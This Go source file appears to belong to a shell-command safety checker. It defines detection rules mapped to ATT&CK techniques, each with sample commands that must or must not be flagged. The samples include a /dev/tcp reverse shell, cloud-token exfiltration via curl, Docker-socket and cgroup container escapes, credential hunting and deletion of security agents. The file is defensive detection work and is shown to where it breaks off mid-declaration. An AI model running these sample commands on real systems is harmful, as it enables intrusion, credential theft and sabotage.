package commands

import (
	"net"
	"net/url"
	"path"
	"regexp"
	"strings"
)

// posixFlowRules judge POSIX, macOS and cloud effects that one program's
// arguments do not show: what a pipeline searches for or sends, which
// processes a loop kills, what interpreter code decodes and then runs, what
// a script or a configuration file being written will run later, a program
// started under a false name or from a hidden staging file, and secrets
// fetched one by one from a list of all of them; and effects that need a
// look at paths or values a catalogue row cannot express (data directories,
// security agents' files, cgroup release agents, agent sockets).
var posixFlowRules = []*rule{
	{
		ID: "history-secret-hunt", Class: "credential access", Sev: high,
		Msg: "searches the shell history or other processes' command lines for passwords, tokens or keys (ATT&CK T1552.003)",
		Must: []string{
			"cat ~/.*history | grep -Ei 'pass|token'",
			"history | grep -i password",
			"tail -n 500 /home/bob/.zsh_history | egrep 'secret|api_key'",
			"ps -ef | grep -i password",
		},
		MustNot: []string{"history | grep git", "cat ~/.bash_history | grep docker", "grep -i password config/app.yml", "ps aux | grep node", "ps aux | grep passenger"},
		check:   checkHistorySecretHunt,
	},
	{
		ID: "kill-system-daemon", Class: "impact", Sev: high,
		Msg: "kills a system daemon (the SSH server, the init system, the login or display manager, the scheduler) found by name (ATT&CK T1489)",
		Must: []string{
			"killall -9 sshd",
			"for p in $(ps -eo pid,comm | awk '/cron/ {print $1}'); do kill -9 \"$p\"; done",
			"kill $(pgrep -x lightdm)",
			"ps -eo pid,cmd | grep dbus-daemon | awk '{print $1}' | xargs kill",
			"for p in $(ps -eo pid | tail -n +2); do c=$(ps -o cmd= -p $p); if [[ $c == *\"rsyslogd\"* ]]; then kill $p; fi; done",
		},
		MustNot: []string{"pkill -f 'node server.js'", "kill $(pgrep -f webpack)", "sudo systemctl restart sshd", "pgrep sshd", "kill -HUP $(cat /run/nginx.pid)",
			"for p in $(ps -eo pid,comm | grep my-worker | awk '{print $1}'); do kill $p; done"},
		check: checkKillSystemDaemon,
	},
	{
		ID: "encoded-code-exec", Class: "obfuscated execution", Sev: high,
		Msg: "runs interpreter code that decodes a hidden payload and executes it (ATT&CK T1027)",
		Must: []string{
			"python3 -c \"import base64,os;os.system(base64.b64decode('aWQ='))\"",
			"python -c 'exec(__import__(\"base64\").b64decode(\"cHJpbnQoMSk=\"))'",
			"perl -MMIME::Base64 -e 'eval(decode_base64(\"cHJpbnQgMQ==\"))'",
			"node -e \"eval(Buffer.from('Y29uc29sZS5sb2coMSk=','base64').toString())\"",
			"php -r 'eval(base64_decode(\"ZWNobyAxOw==\"));'",
		},
		MustNot: []string{
			"python3 -c \"import base64; print(base64.b64decode('aGk='))\"",
			"node -e \"console.log(Buffer.from('aGk=','base64').toString())\"",
			"python3 -c 'import os; os.system(\"ls\")'",
		},
		check: checkEncodedCode,
	},
	{
		ID: "process-masquerade", Class: "defense evasion", Sev: high,
		Msg:     "starts a program under the name of a kernel thread or a system daemon (ATT&CK T1036.004)",
		Must:    []string{"exec -a '[kworker/0:1]' /var/tmp/agent", "exec -a sshd ./miner", "(exec -a \"[kthreadd]\" ./x &)"},
		MustNot: []string{"exec -a myapp ./build/myapp", "exec ./run.sh", "exec bash"},
		check:   checkMasquerade,
	},
	{
		ID: "credential-sniff", Class: "credential access", Sev: high,
		Msg: "captures network traffic or traces a login program to read passwords (ATT&CK T1040, T1056)",
		Must: []string{
			"tcpdump -i any -A -s0 port 21 | grep -i pass",
			"tshark -i eth0 -Y http.authorization -T fields -e http.authorization",
			"strace -f -e trace=read,write -p $(pgrep -n sshd) -o /tmp/t",
			"ngrep -q -i 'pass|user' port 23",
		},
		MustNot: []string{"tcpdump -i eth0 port 443 -w cap.pcap", "strace -f -o trace.txt ./build/app", "strace -p 4242 -e trace=network"},
		check:   checkCredentialSniff,
	},
	{
		ID: "datastore-delete", Class: "destructive filesystem", Sev: high,
		Msg:     "deletes a database server's data directory (ATT&CK T1485)",
		Must:    []string{"rm -rf /var/lib/mysql", "sudo rm -r /var/lib/postgresql/16/main", "rm -rf /var/lib/mongodb/*"},
		MustNot: []string{"rm -rf /var/lib/apt/lists/*", "ls /var/lib/mysql", "rm -rf ./data/mysql"},
		check:   checkDatastoreDelete,
	},
	{
		ID: "password-removed", Class: "persistence", Sev: high,
		Msg:     "removes an account's password, so that anyone may log in as it (ATT&CK T1098)",
		Must:    []string{"passwd -d bob", "sudo passwd --delete root", "for u in $(ls /home); do passwd -d $u; done"},
		MustNot: []string{"passwd", "passwd -S bob", "sudo passwd -e bob"},
		check:   checkPasswordRemoved,
	},
	{
		ID: "transient-timer", Class: "persistence", Sev: high,
		Msg:     "schedules a command with a transient systemd timer, to run later outside the session (ATT&CK T1053.006)",
		Must:    []string{"systemd-run --on-calendar=hourly /var/tmp/agent", "systemd-run --user --on-active=60 /bin/sh -c 'id'", "systemd-run --on-boot=30 ./x"},
		MustNot: []string{"systemd-run --user --scope make -j8", "systemd-run -p MemoryMax=2G ./build.sh"},
		check:   checkTransientTimer,
	},
	{
		ID: "docker-api-escape", Class: "container escape", Sev: high,
		Msg:     "creates a privileged container, or one that mounts the host's root, through the Docker API socket (ATT&CK T1611)",
		Must:    []string{"curl -s --unix-socket /var/run/docker.sock -H 'Content-Type: application/json' -d '{\"Image\":\"alpine\",\"HostConfig\":{\"Binds\":[\"/:/host\"]}}' http://localhost/containers/create"},
		MustNot: []string{"curl -s --unix-socket /var/run/docker.sock http://localhost/containers/json", "curl --unix-socket /run/app.sock http://x/health"},
		check:   checkDockerAPIEscape,
	},
	{
		ID: "security-product-removed", Class: "defense evasion", Sev: high,
		Msg:     "deletes the files of an endpoint security agent (ATT&CK T1562.001)",
		Must:    []string{"sudo rm -rf /opt/CrowdStrike", "rm -rf /Library/Application\\ Support/com.sentinelone.*", "sudo rm -rf /var/ossec"},
		MustNot: []string{"rm -rf /opt/tool", "ls /opt/CrowdStrike", "rm -rf ./vendor/osquery-docs"},
		check:   checkSecurityProductRemoved,
	},
	{
		ID: "web-shell-command", Class: "persistence", Sev: high,
		Msg: "sends a shell command to a web shell through a request parameter (ATT&CK T1505.003)",
		Must: []string{
			"curl -s 'http://192.0.2.90/uploads/x.php?cmd=id'",
			"curl --insecure \"https://192.0.2.91/search.php?cmd=cat+/etc/passwd\"",
			"wget -qO- 'http://192.0.2.92/s.jsp?c=uname%20-a'",
		},
		MustNot: []string{
			"curl 'https://api.example.org/search?q=cat+food'",
			"curl 'https://ci.example.org/job/run?command=build'",
			"curl 'https://example.org/docs?cmd=help'",
			"curl 'https://shop.example.org/items?c=cat&page=2'",
		},
		check: checkWebShellCommand,
	},
	{
		ID: "config-command-hook", Class: "persistence", Sev: high,
		Msg: "writes a command into configuration the system acts on later: a module-load command, a log-rotation script, a Python startup file, a preloaded library (ATT&CK T1546, T1574.006)",
		Must: []string{
			"echo 'install usb-storage /var/tmp/.m' | sudo tee /etc/modprobe.d/usb.conf",
			"sudo sed -i '/postrotate/a /var/tmp/.lr &' /etc/logrotate.d/rsyslog",
			"echo 'import os; os.system(\"/var/tmp/.p &\")' > /usr/lib/python3/dist-packages/zz.pth",
			"echo 'LD_PRELOAD DEFAULT=/var/tmp/l.so' | sudo tee -a /etc/security/pam_env.conf",
		},
		MustNot: []string{
			"echo 'blacklist nouveau' | sudo tee /etc/modprobe.d/blacklist-nouveau.conf",
			"echo 'install cramfs /bin/true' | sudo tee /etc/modprobe.d/cramfs.conf",
			"sudo cp app.logrotate /etc/logrotate.d/app",
			"echo /opt/app/lib > ~/.local/lib/python3.12/site-packages/app.pth",
		},
		check: checkConfigCommandHook,
	},
	{
		ID: "untrusted-package-source", Class: "persistence", Sev: high,
		Msg:     "adds a package source whose signatures the package manager will not check (ATT&CK T1195.002)",
		Must:    []string{"echo 'deb [trusted=yes] http://192.0.2.101/repo ./' | sudo tee /etc/apt/sources.list.d/x.list", "printf '[x]\nbaseurl=http://192.0.2.101/r\ngpgcheck=0\n' | sudo tee /etc/yum.repos.d/x.repo"},
		MustNot: []string{"echo 'deb [signed-by=/usr/share/keyrings/x.gpg] https://pkgs.example.org/apt stable main' | sudo tee /etc/apt/sources.list.d/x.list"},
		check:   checkUntrustedSource,
	},
	{
		ID: "login-records-edit", Class: "defense evasion", Sev: high,
		Msg:     "rewrites or clears the records of who logged in (wtmp, btmp, lastlog) (ATT&CK T1070.002)",
		Must:    []string{"utmpdump -r < /tmp/w > /var/log/wtmp", "sudo lastlog --clear --user root", "lastlog -C -u bob"},
		MustNot: []string{"utmpdump /var/log/wtmp | tail", "lastlog -u bob", "last -n 5"},
		check:   checkLoginRecords,
	},
	{
		ID: "k8s-defense-off", Class: "defense evasion", Sev: high,
		Msg:     "deletes a cluster's admission controls or security agents (policy webhooks, Falco, Gatekeeper, Kyverno and the like) (ATT&CK T1562.001)",
		Must:    []string{"kubectl delete validatingwebhookconfiguration gatekeeper-validating-webhook-configuration", "kubectl -n falco delete daemonset falco", "kubectl delete ns kyverno", "kubectl scale deployment falco --replicas=0 -n falco", "kubectl delete daemonset -n kube-system aws-guardduty-agent"},
		MustNot: []string{"kubectl get validatingwebhookconfigurations", "kubectl delete deploy web -n dev", "kubectl -n falco get pods", "kubectl -n shopapp delete deploy web", "kubectl scale deployment api --replicas=0 -n dev", "kubectl scale deployment falco --replicas=3 -n falco"},
		check:   checkK8sDefenseOff,
	},
	{
		ID: "account-lockout", Class: "impact", Sev: high,
		Msg:     "locks the administrator out: root's shell or password made unusable (ATT&CK T1531)",
		Must:    []string{"sudo usermod -s /sbin/nologin root", "chsh -s /bin/false root", "sudo chage -E 0 root"},
		MustNot: []string{"sudo usermod -s /usr/sbin/nologin svc-app", "chsh -s /bin/zsh", "chage -l root"},
		check:   checkAccountLockout,
	},
	{
		ID: "script-planted-unsafe", Class: "persistence", Sev: high,
		Msg: "writes a shell script whose own commands are unsafe (ATT&CK T1059.004)",
		Must: []string{
			"printf '#!/bin/sh\\ncp /bin/bash /tmp/rb; chmod 4755 /tmp/rb\\n' > /usr/local/bin/backup.sh",
			"echo 'cp /bin/sh /tmp/s && chmod +s /tmp/s' >> /opt/scripts/cleanup.sh",
			"cat > /tmp/u.sh <<'EOF'\nbash -i >& /dev/tcp/192.0.2.120/443 0>&1\nEOF",
		},
		MustNot: []string{
			"echo 'npm test' > run.sh",
			"printf '#!/bin/sh\\nmake -C ~/proj\\n' > ~/bin/build.sh",
			"cat > deploy.sh <<'EOF'\nrsync -a dist/ deploy@198.51.100.121:/srv/app/\nEOF",
			"cat > scripts/setup.sh <<'EOF'\ncurl -fsSL https://get.example.dev/install.sh | sh\nEOF",
		},
		check: checkScriptPlanted,
	},
	{
		ID: "cgroup-release-agent", Class: "container escape", Sev: high,
		Msg:     "sets a cgroup's release agent, which the host kernel runs as root outside the container (ATT&CK T1611)",
		Must:    []string{"echo /tmp/escape.sh > /sys/fs/cgroup/release_agent", "echo \"$host_path/cmd\" > /tmp/cg/release_agent", "mkdir /tmp/cg/x && echo 1 > /tmp/cg/x/notify_on_release"},
		MustNot: []string{"cat /sys/fs/cgroup/release_agent", "echo 1 > /sys/fs/cgroup/cpu/tasks"},
		check:   checkReleaseAgent,
	},
	{
		ID: "git-hooks-path-staged", Class: "persistence", Sev: high,
		Msg:     "points git's hooks at a temporary, shared or hidden folder, so every git command in every repository runs scripts from there (ATT&CK T1546)",
		Must:    []string{"git config --global core.hooksPath /tmp/hooks", "git config --system core.hooksPath /var/tmp/.h"},
		MustNot: []string{"git config core.hooksPath .githooks", "git config --global core.hooksPath ~/.config/git/hooks"},
		check:   checkGitHooksPath,
	},
	{
		ID: "clone-then-run", Class: "download and execute", Sev: high,
		Msg:     "clones a repository from a bare address and runs a script from it (ATT&CK T1105)",
		Must:    []string{"git clone https://198.51.100.40/tools.git /tmp/t && bash /tmp/t/run.sh", "git clone http://192.0.2.141/x.git && ./x/install.sh"},
		MustNot: []string{"git clone https://198.51.100.40/docs.git /tmp/d && ls /tmp/d", "git clone https://github.com/org/repo && cd repo && make"},
		check:   checkCloneThenRun,
	},
	{
		ID: "find-xargs-credential-read", Class: "credential access", Sev: high,
		Msg:     "finds key, history or credential files and hands each to a reader or copier through xargs (ATT&CK T1552.001)",
		Must:    []string{"find / -name credentials -path '*/.aws/*' 2>/dev/null | xargs cat", "find /home -name 'id_rsa*' | xargs -I{} cp {} /tmp/k/"},
		MustNot: []string{"find . -name '*.log' | xargs cat", "find ~/.aws -name config | xargs ls -l"},
		check:   checkFindXargsRead,
	},
	{
		ID: "staged-script-run", Class: "indirect execution", Sev: high,
		Msg:     "runs a script from shared memory or from a hidden file or folder in a temporary or shared directory (ATT&CK T1564.001)",
		Must:    []string{"bash /tmp/.x.sh", "python3 /Users/Shared/.p.py", "osascript /Users/Shared/.s.scpt", "sh /dev/shm/u"},
		MustNot: []string{"bash /tmp/build/run.sh", "python3 ./.venv/bin/tool", "sh -c 'echo hi'"},
		check:   checkStagedScript,
	},
	{
		ID: "clipboard-staged", Class: "collection", Sev: high,
		Msg:     "writes the clipboard into a hidden file in a temporary or shared directory (ATT&CK T1115)",
		Must:    []string{"pbpaste >> /tmp/.c.log", "while true; do xclip -o -selection clipboard >> /Users/Shared/.k/c; sleep 3; done"},
		MustNot: []string{"pbpaste > notes/today.md", "pbpaste >> ~/notes.md", "echo hi | pbcopy"},
		check:   checkClipboardStaged,
	},
	{
		ID: "trusted-name-plant", Class: "persistence", Sev: high,
		Msg:     "installs a file from a temporary, shared or hidden folder under the name of a program in a bin directory (ATT&CK T1036.005)",
		Must:    []string{"sudo ln -s /Users/Shared/.x /usr/local/bin/brew", "cp /tmp/.k /usr/local/bin/kubectl", "mv /var/tmp/.g ~/bin/git"},
		MustNot: []string{"sudo mv /tmp/kubectl /usr/local/bin/kubectl", "ln -s ~/src/tool/bin/tool ~/bin/tool"},
		check:   checkTrustedNamePlant,
	},
	{
		ID: "ssh-agent-hijack", Class: "lateral movement", Sev: high,
		Msg:     "points SSH at another session's agent socket, to log in with keys that are not the caller's (ATT&CK T1563.001)",
		Must:    []string{"SSH_AUTH_SOCK=/tmp/ssh-XXXXab12/agent.4242 ssh-add -l", "export SSH_AUTH_SOCK=$(ls /tmp/ssh-*/agent.* | head -1); ssh root@10.0.0.7"},
		MustNot: []string{"eval $(ssh-agent -s)", "export SSH_AUTH_SOCK=$HOME/.1password/agent.sock"},
		check:   checkSSHAgentHijack,
	},
	{
		ID: "fileless-exec", Class: "defense evasion", Sev: high,
		Msg:     "runs a program from memory without writing it to disk (memfd_create, then exec) (ATT&CK T1620)",
		Must:    []string{"python3 -c \"import os;fd=os.memfd_create('x',0);os.write(fd,open('/tmp/p','rb').read());os.execv('/proc/self/fd/%d'%fd,['x'])\""},
		MustNot: []string{"python3 -c 'import os; print(os.getpid())'"},
		check:   checkFilelessExec,
	},
	{
		ID: "sensitive-symlink-plant", Class: "privilege escalation", Sev: high,
		Msg:     "links a password, sudoers or key file into a temporary folder, where a program run as root may write or read it (ATT&CK T1548)",
		Must:    []string{"ln -sf /etc/shadow /tmp/logfile && sudo /opt/app/rotate --log /tmp/logfile", "ln -s /root/.ssh/authorized_keys /var/tmp/out"},
		MustNot: []string{"ln -s /etc/nginx/nginx.conf /tmp/nginx.conf", "ln -s ~/src/app/.env.example .env"},
		check:   checkSensitiveSymlink,
	},
	{
		ID: "cloud-secrets-harvest", Class: "credential access", Sev: high,
		Msg: "lists a cloud account's secrets and fetches every one of them (ATT&CK T1555.006)",
		Must: []string{
			"for s in $(aws secretsmanager list-secrets --query 'SecretList[].Name' --output text); do aws secretsmanager get-secret-value --secret-id \"$s\"; done",
			"az keyvault secret list --vault-name kv --query '[].id' -o tsv | xargs -I{} az keyvault secret show --id {}",
			"gcloud secrets list --format='value(name)' | while read s; do gcloud secrets versions access latest --secret=$s; done",
		},
		MustNot: []string{
			"aws secretsmanager list-secrets --query 'SecretList[].Name'",
			"aws secretsmanager get-secret-value --secret-id prod/db",
			"az keyvault secret list --vault-name kv && az keyvault secret show --vault-name kv --name app-key",
		},
		check: checkCloudSecretsHarvest,
	},
	{
		ID: "cloud-token-sent", Class: "credential access", Sev: high,
		Msg: "prints a cloud or cluster access token and sends it to a network address (ATT&CK T1528)",
		Must: []string{
			"az account get-access-token --resource https://vault.azure.net | jq -r .accessToken | curl -d @- http://198.51.100.201/t",
			"gcloud auth print-access-token | curl -s -X POST --data-binary @- https://203.0.113.203/",
		},
		MustNot: []string{"az account get-access-token --resource https://management.azure.com --query expiresOn", "gcloud auth print-access-token | wc -c"},
		check:   checkCloudTokenSent,
	},
	{
		ID: "k8s-env-secret-hunt", Class: "credential access", Sev: high,
		Msg: "prints pods' environments and filters them for keys, secrets, tokens or passwords (ATT&CK T1552.007)",
		Must: []string{
			"kubectl exec -n prod api-7d9c-x2 -- env | grep -i -E 'key|secret|token|pass'",
			"kubectl get pods -A -o json | jq -r '.items[].spec.containers[].env[]? | select(.name|test(\"KEY|SECRET|TOKEN|PASS\")) | .value'",
		},
		MustNot: []string{"kubectl exec -n dev api-7d9c-x2 -- env", "kubectl exec -n dev api -- env | grep -i PATH", "kubectl get pods -A -o json | jq -r '.items[].metadata.name'"},
		check:   checkK8sEnvSecretHunt,
	},
	{
		ID: "eks-aws-auth-masters", Class: "privilege escalation", Sev: high,
		Msg: "edits the EKS aws-auth map to put a principal in system:masters (cluster administrator) (ATT&CK T1098)",
		Must: []string{
			"kubectl get configmap aws-auth -n kube-system -o yaml > a.yaml && sed -i 's/mapUsers: |/mapUsers: |\\n    - userarn: arn:aws:iam::444455556666:user\\/ops\\n      groups: [system:masters]/' a.yaml && kubectl apply -f a.yaml",
			"kubectl patch configmap aws-auth -n kube-system --patch '{\"data\":{\"mapRoles\":\"- rolearn: arn:aws:iam::444455556666:role/x\\n  groups: [system:masters]\"}}'",
		},
		MustNot: []string{"kubectl get configmap aws-auth -n kube-system -o yaml", "kubectl patch configmap aws-auth -n kube-system --patch-file nodes.yaml"},
		check:   checkEKSAwsAuthMasters,
	},
	{
		ID: "aws-assumed-role-iam-write", Class: "privilege escalation", Sev: high,
		Msg: "takes a role's credentials from sts assume-role and uses them to grant access or make keys, logins or policies in IAM (ATT&CK T1078.004, T1098)",
		Must: []string{
			"creds=$(aws sts assume-role --role-arn arn:aws:iam::123456789012:role/ops --role-session-name x --query Credentials --output json); export AWS_ACCESS_KEY_ID=$(echo $creds | jq -r .AccessKeyId) AWS_SECRET_ACCESS_KEY=$(echo $creds | jq -r .SecretAccessKey) AWS_SESSION_TOKEN=$(echo $creds | jq -r .SessionToken); aws iam create-access-key --user-name ops",
			"aws configure set aws_access_key_id AKIAIOSFODNN7EXAMPLE --profile p && aws configure set aws_secret_access_key x --profile p && aws iam create-user --user-name ops2 --profile p",
			"eval $(aws sts assume-role --role-arn arn:aws:iam::123456789012:role/dev --role-session-name s | jq -r '.Credentials | \"export AWS_ACCESS_KEY_ID=\\(.AccessKeyId) AWS_SECRET_ACCESS_KEY=\\(.SecretAccessKey) AWS_SESSION_TOKEN=\\(.SessionToken)\"'); aws iam attach-user-policy --user-name dev --policy-arn arn:aws:iam::123456789012:policy/extra",
		},
		MustNot: []string{
			"creds=$(aws sts assume-role --role-arn arn:aws:iam::123456789012:role/deploy --role-session-name ci); aws s3 ls",
			"aws sts assume-role --role-arn arn:aws:iam::123456789012:role/ops --role-session-name x; aws iam list-users",
			"aws configure set region us-east-1 --profile dev && aws iam list-users --profile dev",
			"aws iam attach-role-policy --role-name lambda-exec --policy-arn arn:aws:iam::aws:policy/service-role/AWSLambdaBasicExecutionRole",
		},
		check: checkAssumedRoleIAMWrite,
	},
}

func init() { rules = append(rules, posixFlowRules...) }

// secretWordRe is what a search for credentials looks for.
var secretWordRe = regexp.MustCompile(`(?i)pass(wd|word|phrase)?(\b|_|=)|secret|token|api[_-]?key|credential|-p |authoriz|aws_(secret|access|session)|private[_-]?key`)

// grepsFor reports whether a pipeline stage after c filters for secret words.
func grepsFor(c *call, re *regexp.Regexp) bool {
	for _, d := range downstream(c) {
		switch d.name {
		case "grep", "egrep", "fgrep", "rg", "ag", "awk", "sed", "findstr", "select-string":
			for _, a := range d.args() {
				if re.MatchString(a) {
					return true
				}
			}
		}
	}
	return false
}

func checkHistorySecretHunt(c *call, _ *config) *hit {
	// ps -ef | grep -i password: passwords typed on other processes' command lines.
	if c.name == "history" || c.name == "fc" && hasFlag(c, "l") || c.name == "ps" {
		if grepsFor(c, secretWordRe) {
			return c.rule()
		}
		return nil
	}
	switch c.name {
	case "cat", "tail", "head", "less", "more", "strings", "tac", "sort", "uniq", "cut", "zcat":
	default:
		return nil
	}
	for _, op := range operands(c, "-n -c") {
		// Every process's command line or environment searched the same way.
		if (isHistoryFile(op) || procCmdlineRe.MatchString(normPath(op))) && grepsFor(c, secretWordRe) {
			return c.rule()
		}
	}
	return nil
}

// systemDaemons are processes the machine stops working without, for its
// users or its administrators: killing one by name is denial of service.
var systemDaemons = set("sshd", "systemd", "init", "dbus-daemon", "dbus-broker", "cron", "crond", "atd", "xorg", "gdm", "gdm3",
	"lightdm", "sddm", "systemd-logind", "networkmanager", "systemd-networkd", "systemd-resolved", "sssd", "chronyd", "ntpd",
	"systemd-timesyncd", "cupsd", "avahi-daemon", "bluetoothd", "polkitd", "systemd-udevd", "udevd", "containerd", "dockerd",
	"kubelet", "login", "getty", "agetty", "wpa_supplicant", "dhclient", "named", "sshd:", "launchd", "windowserver", "loginwindow")

// killHints returns the process names a text looks up: pgrep and pidof
// operands, and the patterns that grep or awk apply to ps output.
func killHints(a *analysis) []string {
	var out []string
	for _, o := range a.calls {
		switch o.name {
		case "pgrep", "pidof", "pkill", "killall":
			out = append(out, operands(o, "-u -U -g -G -P -s -t -F --signal -signal -o")...)
		case "grep", "egrep", "awk":
			fromPs := false
			for _, u := range upstream(o) {
				if u.name == "ps" {
					fromPs = true
				}
			}
			if fromPs {
				for _, x := range operands(o, "-e -f -F -v") {
					out = append(out, processWordRe.FindAllString(lower(x), -1)...)
				}
			}
		}
	}
	return psHints(a, out)
}

var (
	processWordRe = regexp.MustCompile(`[a-z][a-z0-9_.-]*`)
	procCmdlineRe = regexp.MustCompile(`^/proc/[^/]+/(cmdline|environ)$`)
)

// psHints adds the names a script that lists processes compares their
// command lines with (only when it runs ps: the test is about processes).
func psHints(a *analysis, out []string) []string {
	for _, o := range a.calls {
		if o.name == "ps" {
			for _, m := range testGlobRe.FindAllStringSubmatch(a.text, 16) {
				out = append(out, lower(m[1]))
			}
			break
		}
	}
	return out
}

func checkKillSystemDaemon(c *call, _ *config) *hit {
	switch c.name {
	case "kill", "pkill", "killall", "xargs":
	default:
		return nil
	}
	if c.name == "xargs" && !strings.Contains(strings.Join(c.args(), " "), "kill") {
		return nil
	}
	if c.name == "pkill" || c.name == "killall" {
		if hasFlag(c, "", "-HUP", "-USR1", "-USR2", "--signal") || argIn(c, "-HUP", "-1", "-USR1", "-USR2", "-s") && !argIn(c, "-9", "-KILL", "-TERM") {
			return nil
		}
		for _, op := range operands(c, "-u -U -g -G -P -s -t -F -o --signal") {
			if systemDaemons[lower(strings.Trim(op, "'\""))] {
				return c.rule()
			}
		}
		return nil
	}
	if argIn(c, "-HUP", "-1", "-USR1", "-USR2", "-0") {
		return nil
	}
	// kill "$pid", kill $(pgrep x): the pids come from a lookup by name.
	literal := true
	for _, a := range operands(c, "-s -n") {
		if strings.ContainsAny(a, "$`") || c.name == "xargs" {
			literal = false
		}
	}
	if literal && len(c.substs) == 0 && c.name != "xargs" && c.prev == nil {
		return nil
	}
	service := ""
	for _, h := range killHints(c.a) {
		if systemDaemons[h] || securityDaemons[h] || daemonPrefix(h) {
			return c.rule()
		}
		if serviceDaemons[h] {
			service = h
		}
	}
	if service != "" {
		return hitf(c, medium, "kills a server's processes found by name ("+service+")")
	}
	return nil
}

// serviceDaemons are servers a developer also stops and starts: killing
// them by name is reported, not blocked.
var serviceDaemons = set("nginx", "httpd", "apache2", "mysqld", "mariadbd", "postgres", "postmaster", "mongod", "redis-server",
	"memcached", "elasticsearch", "php-fpm", "tomcat", "java", "docker-proxy", "haproxy", "squid", "named", "dnsmasq", "vsftpd", "smbd")

// testGlobRe finds the names a script compares command lines with:
// [[ $cmdline == *"cron"* ]].
var testGlobRe = regexp.MustCompile(`==\s*\*"?([A-Za-z][A-Za-z0-9_.-]*)"?\*`)

var (
	decodeCodeRe = regexp.MustCompile(`(?i)b64decode|decodebytes|base64\.decode|decode_base64|base64_decode|atob\(|from\(\s*["'][^"']*["']\s*,\s*["']base64|unpack\(\s*["']m|decode64|fromhex\(|unhexlify|\.decode\(\s*["'](base64|hex|rot13)|codecs\.decode`)
	execCodeRe   = regexp.MustCompile(`(?i)\bexec\s*\(|\beval\s*\(|\bsystem\s*\(|popen|subprocess|child_process|execsync|\bspawn|new\s+function\s*\(|shell_exec|passthru|proc_open|` + "`" + `|\bos\.exec|io\.popen|%x\(|\bcompile\(`)
)

func checkEncodedCode(c *call, _ *config) *hit {
	if !isInterp(c.name) || strings.HasSuffix(c.name, "awk") {
		return nil
	}
	for _, code := range interpCodeArgs(c) {
		if decodeCodeRe.MatchString(code) && execCodeRe.MatchString(code) {
			return c.rule()
		}
	}
	return nil
}

var kernelThreadRe = regexp.MustCompile(`^\[[a-z0-9_/:.-]+\]$`)

func checkMasquerade(c *call, _ *config) *hit {
	if c.name != "exec" {
		return nil
	}
	v, ok := optValue(c, "-a")
	if !ok {
		return nil
	}
	n := lower(strings.Trim(v, "'\" "))
	if kernelThreadRe.MatchString(n) || systemDaemons[n] {
		return c.rule()
	}
	return nil
}

var (
	loginPrograms = set("sshd", "sudo", "su", "login", "passwd", "ssh", "ssh-agent", "gpg-agent", "gnome-keyring-daemon", "lightdm",
		"gdm", "gdm3", "sddm", "vsftpd", "proftpd", "dovecot", "mysql", "psql", "kinit", "polkit-agent-helper-1", "unix_chkpwd")
	sniffers = set("tcpdump", "tshark", "ngrep", "dsniff", "ettercap", "bettercap", "tcpflow", "windump")
)

func checkCredentialSniff(c *call, _ *config) *hit {
	switch {
	case c.name == "ngrep" || c.name == "dsniff" || c.name == "ettercap" || c.name == "bettercap":
		for _, a := range c.args() {
			if secretWordRe.MatchString(a) || c.name != "ngrep" {
				return c.rule()
			}
		}
	case c.name == "tshark":
		for _, a := range c.args() {
			if strings.Contains(lower(a), "authorization") || strings.Contains(lower(a), ".pass") || strings.Contains(lower(a), "credentials") {
				return c.rule()
			}
		}
		if grepsFor(c, secretWordRe) {
			return c.rule()
		}
	case sniffers[c.name]:
		if grepsFor(c, secretWordRe) {
			return c.rule()
		}
	case c.name == "strace" || c.name == "ltrace":
		v, ok := optValue(c, "-p", "--attach")
		if !ok {
			return nil
		}
		traced := lower(v)
		for _, s := range c.argSubst[argIndex(c, v)] {
			traced += " " + lower(strings.Join(s.argv, " "))
		}
		for _, w := range processWordRe.FindAllString(traced, -1) {
			if loginPrograms[w] {
				return c.rule()
			}
		}
		if e, ok := optValue(c, "-e"); ok && (strings.Contains(e, "read") || strings.Contains(e, "write")) && !strings.Contains(e, "network") {
			for _, h := range killHints(c.a) {
				if loginPrograms[h] {
					return c.rule()
				}
			}
		}
	}
	return nil
}

// argIndex returns the index in argv of the first argument equal to v, or -1.
func argIndex(c *call, v string) int {
	for i, a := range c.argv {
		if a == v {
			return i
		}
	}
	return -1
}

var datastoreDirs = []string{"/var/lib/mysql", "/var/lib/mariadb", "/var/lib/postgresql", "/var/lib/pgsql", "/var/lib/mongodb", "/var/lib/mongo",
	"/var/lib/redis", "/var/lib/elasticsearch", "/var/lib/etcd", "/var/lib/cassandra", "/var/lib/influxdb", "/var/lib/clickhouse",
	"/var/lib/couchdb", "/var/lib/neo4j", "/var/lib/rabbitmq", "/var/lib/kafka", "/var/lib/zookeeper", "/var/opt/mssql", "/var/lib/docker/volumes"}

func checkDatastoreDelete(c *call, _ *config) *hit {
	if c.name != "rm" && c.name != "shred" && c.name != "srm" {
		return nil
	}
	for _, op := range operands(c, "") {
		n := normPath(op)
		for _, d := range datastoreDirs {
			if n == d || strings.HasPrefix(n, d+"/") {
				return c.rule()
			}
		}
	}
	return nil
}

func checkPasswordRemoved(c *call, _ *config) *hit {
	if c.name == "passwd" && hasFlag(c, "d", "--delete") {
		return c.rule()
	}
	return nil
}

// checkTransientTimer: systemd-run with a timer option schedules its
// command. Scheduling an installed program is everyday work (medium);
// scheduling a shell script, a program from a temporary, shared or hidden
// folder, or a command unsafe in itself is high.
func checkTransientTimer(c *call, _ *config) *hit {
	if c.name != "systemd-run" {
		return nil
	}
	timer := false
	for _, a := range c.args() {
		for _, o := range []string{"--on-calendar", "--on-active", "--on-boot", "--on-startup", "--on-unit-active", "--on-unit-inactive", "--on-clock-change", "--on-timezone-change"} {
			if a == o || strings.HasPrefix(a, o+"=") {
				timer = true
			}
		}
	}
	if !timer {
		return nil
	}
	for _, in := range c.inners {
		x := normPath(in.arg(0))
		if isShell(in.name) && shellScript(in.argv) >= 0 || strings.HasPrefix(x, "/tmp/") || strings.HasPrefix(x, "/var/tmp/") ||
			stagedHidden(in.arg(0)) || strings.Contains(x, "/.") {
			return c.rule()
		}
	}
	return hitf(c, medium, "schedules an installed program with a transient systemd timer")
}

var dockerAPIEscapeRe = regexp.MustCompile(`(?i)"privileged"\s*:\s*true|"binds"\s*:\s*\[[^\]]*"/:|"pidmode"\s*:\s*"host"|"capadd"\s*:\s*\[[^\]]*"(sys_admin|all)"`)

func checkDockerAPIEscape(c *call, _ *config) *hit {
	if c.name != "curl" {
		return nil
	}
	sock, ok := optValue(c, "", "--unix-socket")
	if !ok || !strings.Contains(sock, "docker.sock") {
		return nil
	}
	for _, a := range c.args() {
		if dockerAPIEscapeRe.MatchString(a) {
			return c.rule()
		}
	}
	return nil
}

// secretGets are the calls that print one secret, by program and
// subcommand words; secretLists list them all.
var (
	secretGets = map[string][][]string{
